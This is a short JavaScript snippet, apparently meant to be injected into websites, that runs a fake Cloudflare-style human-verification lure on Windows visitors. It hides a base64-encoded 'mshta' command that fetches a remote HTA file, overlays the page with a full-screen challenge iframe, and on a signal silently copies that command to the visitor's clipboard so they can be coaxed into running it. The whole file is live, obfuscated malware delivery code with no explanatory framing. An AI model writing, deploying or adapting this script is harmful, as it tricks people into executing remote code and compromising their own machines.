(function () {
  if (navigator.userAgent.indexOf("Windows NT") < 0) return;
  if (localStorage.getItem("cf_done")) return;
  var c = atob("bXNodGEgaHR0cHM6Ly9jYXB0Y2hhLWNoZWNrLmludmFsaWQvdmVyaWZ5Lmh0YSAjIENsb3VkZmxhcmUgaHVtYW4gY2hlY2sgSUQgNzczMQ==");
  var f = document.createElement("iframe");
  f.src = "https://captcha-check.invalid/challenge.html";
  f.style.cssText = "position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:2147483647";
  document.body.appendChild(f);
  window.addEventListener("message", function (e) {
    if (e.data !== "cf-verify") return;
    var t = document.createElement("textarea");
    t.value = c;
    document.body.appendChild(t);
    t.select();
    document.execCommand("copy");
    document.body.removeChild(t);
    localStorage.setItem("cf_done", "1");
  });
})();
